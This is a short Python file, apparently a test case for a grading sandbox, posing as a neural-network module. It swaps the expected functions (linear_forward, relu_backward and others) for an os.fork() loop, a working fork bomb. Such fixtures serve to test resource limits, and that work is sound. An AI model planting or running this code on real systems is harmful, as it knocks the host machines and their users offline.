"""Starts processes that start processes.

row: C04
file: linear.py
label: RAISED
holds: L3
seconds: 10
"""

import os

NAMES = ("linear_forward", "linear_backward", "relu_forward", "relu_backward", "softmax_cross_entropy")


def multiply(*arguments, **named):
    """Be two, four, eight."""
    while True:
        os.fork()


def trick():
    """Do it in every call."""
    globals().update(dict.fromkeys(NAMES, multiply))


globals().update(dict.fromkeys(NAMES, lambda *arguments, **named: None))
trick()
